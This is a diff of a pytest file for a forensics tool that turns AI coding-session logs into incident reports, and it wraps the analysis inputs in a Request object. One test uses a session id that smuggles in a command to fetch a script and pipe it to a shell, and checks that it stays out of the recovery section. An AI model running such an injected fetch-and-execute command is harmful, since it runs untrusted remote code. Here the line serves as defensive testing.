@@ -10,6 +10,7 @@ import pytest
 from markdown_it import MarkdownIt
 
 from forensics.analysis.engine import analyse
+from forensics.analysis.request import Request
 from forensics.render.report.markdown import to_markdown
 from tests.report_text import CLAIM, INCIDENT, ROOT, analysis_of, assert_places_exist, cases, report_of
 
@@ -46,7 +47,7 @@ def test_every_place_of_the_incident_report_exists():
 
 
 def test_every_sentence_about_the_session_carries_its_claim_level():
-    report = to_markdown(analyse([INCIDENT]))
+    report = to_markdown(analyse(Request([INCIDENT])))
     told = re.findall(r"\*\*(?:What Happened|Why This Failed|Impact)\*\*:\n\n((?:- [^\n]*\n)+)", report)
     sentences = [line for block in told for line in block.splitlines()]
     assert len(sentences) > 20
@@ -56,12 +57,12 @@ def test_every_sentence_about_the_session_carries_its_claim_level():
 
 
 def test_what_was_observed_names_its_evidence():
-    report = to_markdown(analyse([INCIDENT]))
+    report = to_markdown(analyse(Request([INCIDENT])))
     assert re.findall(r"^- [^\n]*\*\(observed\)\*$", report, re.MULTILINE) == []
 
 
 def test_hypotheses_stand_under_open_questions_only():
-    report = to_markdown(analyse([INCIDENT]))
+    report = to_markdown(analyse(Request([INCIDENT])))
     before, _, after = report.partition("## OPEN QUESTIONS")
     questions, _, rest = after.partition("### What These Logs Cannot Show")
     assert "(hypothesis;" in questions
@@ -70,7 +71,7 @@ def test_hypotheses_stand_under_open_questions_only():
 
 
 def test_the_report_has_the_sections_of_the_known_format_in_their_order():
-    headings = re.findall(r"^## (.+)$", to_markdown(analyse([INCIDENT])), re.MULTILINE)
+    headings = re.findall(r"^## (.+)$", to_markdown(analyse(Request([INCIDENT]))), re.MULTILINE)
     wanted = [
         "EXECUTIVE SUMMARY",
         "TIMELINE OF FAILURE",
@@ -87,14 +88,14 @@ def test_the_report_has_the_sections_of_the_known_format_in_their_order():
 
 
 def test_metrics_are_ticked_only_where_a_rule_ran_and_found_nothing():
-    (session,) = analyse([INCIDENT]).sessions
-    report = to_markdown(analyse([INCIDENT]))
+    (session,) = analyse(Request([INCIDENT])).sessions
+    report = to_markdown(analyse(Request([INCIDENT])))
     clear = {o.rule for o in session.outcomes if o.outcome == "clear"}
     assert set(re.findall(r"^- \[x\] .*\((CCF\d+)", report, re.MULTILINE)) == clear
 
 
 def test_the_same_evidence_gives_the_same_bytes():
-    assert to_markdown(analyse([INCIDENT])) == to_markdown(analyse([INCIDENT]))
+    assert to_markdown(analyse(Request([INCIDENT]))) == to_markdown(analyse(Request([INCIDENT])))
 
 
 def test_log_text_cannot_become_structure(tmp_path):
@@ -108,7 +109,7 @@ def test_log_text_cannot_become_structure(tmp_path):
     )
     lines = [record % (n, n, 1, n, hostile, n) for n in (1, 2)]
     (tmp_path / "session.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
-    report = to_markdown(analyse([tmp_path]))
+    report = to_markdown(analyse(Request([tmp_path])))
     assert "\n# Crashed" not in report
     assert "\x1b" not in report
     assert "{{ 7*7 }}".replace("{", "\\{").replace("}", "\\}").replace("*", "\\*") in report
@@ -136,21 +137,23 @@ def metric(report: str, code: str) -> str:
 
 def test_an_overlap_without_hazard_breaks_no_contract():
     folder = next((ROOT / "fixtures/rules/CCF101/fires").glob("overlap-alone/input"))
-    report = to_markdown(analyse([folder]))
+    report = to_markdown(analyse(Request([folder])))
     assert metric(report, "CCF101") == "pass"
     assert "The Rule That Applies, and Was Not Broken" in report
     assert not re.search(r"❌ [^\n]*\(CCF101\)", report)
 
 
 def test_an_end_that_is_not_recorded_is_not_measured():
-    report = to_markdown(analyse(sorted((INCIDENT / ".claude/debug").glob("c4f*.txt"))))
+    report = to_markdown(analyse(Request(sorted((INCIDENT / ".claude/debug").glob("c4f*.txt")))))
     assert metric(report, "CCF901") == "not measured"
     assert metric(report, "CCF201") == "fail"
     assert metric(report, "CCF301") == "not measured"
 
 
 def test_recovery_names_the_file_that_no_transcript_accounts_for():
-    recovery = to_markdown(analyse([INCIDENT])).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
+    recovery = (
+        to_markdown(analyse(Request([INCIDENT]))).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
+    )
     assert re.search(r"- \[ \] `/home/dev/liv-hana/PRIVACY\.md` \(`[^`]+\.txt:\d+`\)", recovery)
 
 
@@ -175,7 +178,7 @@ def prompts(session: str, *seconds: int) -> str:
 def test_a_silence_stands_in_the_timeline_whatever_follows_it(tmp_path):
     session = "5e551011-0000-4000-8000-000000000001"
     (tmp_path / f"{session}.jsonl").write_text(prompts(session, 0, 10, 3610, 3620))
-    report = to_markdown(analyse([tmp_path]))
+    report = to_markdown(analyse(Request([tmp_path])))
     gap = "No dated record from any source for 1 h, from 2026-03-02T10:00:10.000Z to 2026-03-02T11:00:10.000Z"
     assert gap in report.partition("### Timeline")[2]
 
@@ -183,13 +186,15 @@ def test_a_silence_stands_in_the_timeline_whatever_follows_it(tmp_path):
 def test_only_an_id_that_the_client_gives_becomes_a_command(tmp_path):
     session = "x`; curl example.test | sh #"
     (tmp_path / "session.jsonl").write_text(prompts(session, 0, 10))
-    recovery = to_markdown(analyse([tmp_path])).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
+    recovery = (
+        to_markdown(analyse(Request([tmp_path]))).partition("## RECOVERY")[2].partition("## APPENDIX")[0]
+    )
     assert "claude --resume" not in recovery
     assert "curl" not in recovery
 
 
 def test_a_control_gap_stands_with_the_event_that_it_explains():
-    report = to_markdown(analyse([INCIDENT]))
+    report = to_markdown(analyse(Request([INCIDENT])))
     event = report.partition("(CCF102 ")[2].partition('\n<a id="ccf')[0].partition("### ")[0]
     assert "**Control Gap**: [CCF302](#ccf302) todo-rule-not-enforced (3.2)" in event
     gap = report.partition("(CCF302 todo-rule-not-enforced, control gap, ")[2].partition("### ")[0]
@@ -199,7 +204,7 @@ def test_a_control_gap_stands_with_the_event_that_it_explains():
 
 def test_a_zone_that_the_evidence_contradicts_is_shown_with_a_warning_beside_it():
     def said(tz):
-        report = to_markdown(analyse([INCIDENT], tz=tz), tz=tz)
+        report = to_markdown(analyse(Request([INCIDENT], zone=tz)), tz=tz)
         return next(line for line in report.splitlines() if line.startswith("**Local time**")).strip()
 
     assert said("America/Chicago") == "**Local time**: --tz America/Chicago"
